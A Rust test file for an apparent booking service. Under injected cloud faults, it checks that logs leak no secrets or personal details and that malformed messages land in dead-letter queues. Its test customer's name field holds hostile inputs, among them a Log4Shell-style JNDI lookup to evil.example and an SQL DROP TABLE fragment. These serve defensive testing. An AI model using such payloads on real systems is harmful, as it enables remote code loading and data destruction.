//! No log line has a secret or a word about a person, above all where something fails. A town checks
//! that when it ends; these stories are long in failures and rich in words.

use fleet_tests::{Booked, Town, deposit_paid};
use local_cloud::{FaultKind, FaultRule, RandomFaults};
use serde_json::{Value, json};

use crate::messages::support::*;

/// A wish with something to hide in every field.
fn telling_wish(town: &Town, starts_at: &str) -> Value {
    let mut wish = wish_at(town, "table-4", starts_at);
    wish["name"] = json!("Philippa {{ phone }} ${jndi:ldap://evil.example} '; DROP TABLE");
    wish["email"] = json!("philippa.quillfeather@example.net");
    wish["notes"] = json!("12 Thimble Lane, ring twice; allergic to walnuts");
    wish
}

/// What everyone may try while things fail; whether it works is not the point.
async fn try_everything(town: &Town, booked: &Booked) {
    let cloud = &town.fleet.cloud;
    for key in [None, Some("key-1")] {
        let wish = telling_wish(town, "2026-07-12T18:00");
        town.post_booking(&wish, key).await;
    }
    town.get(&format!("/bookings/{}", booked.id)).await;
    town.get("/slots?resource=table-4&from=2026-07-12T12:00&to=2026-07-12T20:00")
        .await;
    for method in ["GET", "POST"] {
        town.cashier(method, booked.pay_url()).await;
    }
    for (event, payment) in [("evt_1", "pi_1"), ("evt_2", "pi_2")] {
        town.webhook(&deposit_paid(town, booked, event, payment))
            .await;
    }
    town.post_event(b"{}", "t=1,v1=00").await;
    let moved = json!({"starts_at": "2026-07-11T17:00"});
    town.staff(booked, "reschedule", &moved).await;
    let reason = json!({"by": "customer", "reason": "Philippa Quillfeather is ill"});
    town.staff(booked, "cancel", &reason).await;
    for text in ["STOP", "I live at 12 Thimble Lane", "START"] {
        cloud.reply_by_sms(fleet_tests::PHONE_E164, text);
    }
    for function in ["bdc-release-sweep", "bdc-settle-sweep", "bdc-relay"] {
        let _ = cloud.invoke(function, json!({"kind": "sweep"})).await;
    }
    town.settle().await;
    town.advance(redelivery() * 2).await;
}

#[tokio::test]
async fn a_function_whose_calls_fail_says_nothing_about_anyone() {
    let functions = Town::new().fleet.cloud.functions().into_iter();
    // What dunning says while its calls fail is for its own stories.
    for function in functions.filter(|name| name.starts_with("bdc-")) {
        for fault in [
            FaultKind::NotSent,
            FaultKind::AnswerLost,
            FaultKind::Throttled,
            FaultKind::Conflict,
            FaultKind::InternalError,
        ] {
            let town = Town::new();
            let booked = town.book(&telling_wish(&town, "2026-07-11T20:00")).await;
            let rule = FaultRule {
                function: Some(function.clone()),
                operation: None,
                nth: 1,
                times: u32::MAX,
                fault,
            };
            town.fleet.cloud.faults().add(rule);
            try_everything(&town, &booked).await;
            assert!(
                town.fleet
                    .cloud
                    .calls()
                    .iter()
                    .any(|call| call.fault.is_some())
            );
        }
    }
}

#[tokio::test]
async fn a_fleet_in_which_any_call_may_fail_says_nothing_about_anyone() {
    for seed in 0..12 {
        let town = Town::new();
        let booked = town.book(&telling_wish(&town, "2026-07-11T20:00")).await;
        town.fleet.cloud.faults().set_random(Some(RandomFaults {
            seed,
            per_mille: 150,
            kinds: FaultKind::ALL.map(|kind| (kind, 1)).to_vec(),
        }));
        try_everything(&town, &booked).await;
    }
}

#[tokio::test]
async fn what_can_not_be_read_is_not_repeated_in_the_logs() {
    let town = Town::new();
    town.book(&telling_wish(&town, "2026-07-11T20:00")).await;
    let row = town.rows("bdc-bookings").remove(0);
    let (name, phone) = (
        row["name"].as_str().unwrap(),
        row["phone"].as_str().unwrap(),
    );
    for queue in ["bdc-jobs", "bdc-handovers"] {
        send(&town, queue, name).await;
        send(&town, queue, &json!(phone).to_string()).await;
        send(
            &town,
            queue,
            &json!({"event_id": "e", "type": phone, "schema_version": name}).to_string(),
        )
        .await;
    }
    let mut odd = town.wish();
    odd["starts_at"] = json!(phone);
    odd["party"] = json!(town.fleet.tokens().staff);
    let several = json!({"name": [name], "phone": phone, "party": phone});
    for body in [json!(phone), several, odd] {
        let status = town.post_booking(&body, None).await.status;
        assert!((400..500).contains(&status), "{status}");
    }
    for message in [
        json!(phone),
        json!({"originationNumber": name, "messageBody": "STOP"}),
        json!({"originationNumber": phone, "messageBody": [name]}),
        json!({"originationNumber": [phone], "messageBody": name}),
    ] {
        let event = json!({"Records": [{"Sns": {"MessageId": "m",
            "Timestamp": "2026-07-09T12:00:00Z", "Message": message.to_string()}}]});
        let answer = town.fleet.cloud.invoke("bdc-optout", event).await;
        assert!(answer.is_err(), "{message}");
    }
    town.settle().await;
    town.advance(all_redeliveries()).await;
    assert_eq!(waiting(&town, "bdc-jobs-dlq").len(), 3);
    assert_eq!(waiting(&town, "bdc-handovers-dlq").len(), 3);
}
